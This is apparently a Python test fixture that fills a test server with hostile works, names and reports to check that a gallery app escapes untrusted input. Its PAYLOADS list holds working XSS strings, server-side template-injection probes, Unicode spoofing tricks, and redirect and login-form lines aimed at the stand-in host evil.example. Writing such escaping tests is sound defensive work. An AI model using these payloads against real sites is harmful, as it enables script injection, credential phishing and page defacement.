"""What people might type to have it run, or to break a page; and a server full of it."""

from __future__ import annotations

from dataclasses import replace

from core.jobs import Actor, Owner, Place
from core.membership import Standing
from core.request import Part
from core.showcase import Showcase
from core.works import Showing
from tests.builders import NOON
from tests.gallery.makers import made
from tests.gallery.stage import ADMIN, Stage

HAUNT = 66
"""The server; ADMIN administers it."""

PAYLOADS = (
    "<script>ran = 1; alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<a href=javascript:alert(1)>look</a>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {{constructor.constructor('alert(1)')()}}",
    "<!-- --><![CDATA[<script>alert(1)</script>]]>",
    "\u202egnp.exe\u202c \u2066\u2067 txet \u202b",
    "Z" + "\u0300\u0301\u0302\u0489\u035c" * 40 + "algo",
    "W" * 900,
    "一" * 700,
    "\u200b\u200d\ufeff\u00ad" * 60 + "nothing to see",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Log in</button></form>",
    "👩‍👩‍👧‍👦" * 120,
)
BEFORE = ("", "a cat ", "<b>bold</b> ", "&lt;i&gt; ", "\n\n# ")


def hostile(index: int) -> str:
    """A hundred of them."""
    return BEFORE[index // len(PAYLOADS)] + PAYLOADS[index % len(PAYLOADS)]


COLLECTOR = Owner(7001, hostile(1)[:90])
"""Keeps collections with hostile names."""


def haunt(stage: Stage) -> list[str]:
    """A hundred public works whose prompts and makers' names are hostile, on a server whose name
    is, with hostile reports, rules and collections; the works' ids, the last made first."""
    people = [Owner(7000 + index, hostile(index)[:90]) for index in range(100)]
    stage.town.names[HAUNT] = "<script>alert(1)</script>"
    for person in (*people, ADMIN):
        stage.town.standings[person.id, HAUNT] = Standing(
            name=person.name, member=True, administers=person is ADMIN
        )

    async def work() -> list[str]:
        storage, deps, found = stage.storage, stage.deps, list[str]()
        await storage.rules.change_house(
            HAUNT, lambda house: replace(house, gallery=Showing.PUBLIC), by=ADMIN, now=NOON
        )
        place = Place(server_id=HAUNT, channel_id=HAUNT)
        for index, person in enumerate(people):
            text = hostile(index)
            job = await made(
                storage, person, place, at=NOON - 50 + index / 4, text=text, parts=(Part(text),)
            )
            found.insert(0, f"{job.id}-1")
            if index % 4 == 0:
                actor = Actor(person, server_id=HAUNT)
                await deps.complaints.take(actor, job.id, hostile(99 - index), 1)
        job_id = found[0].split("-")[0]
        await deps.complaints.demand(job_id, 1, PAYLOADS[3], PAYLOADS[4])
        showcase = Showcase(id=0, server_id=HAUNT, channel_id=5, topic=PAYLOADS[0], likes=3)
        await storage.showcases.add(showcase, by=people[0], now=NOON)
        for index in range(20):
            await deps.keeper.make(COLLECTOR, PAYLOADS[index][:60])
        return found

    return stage.call(work())
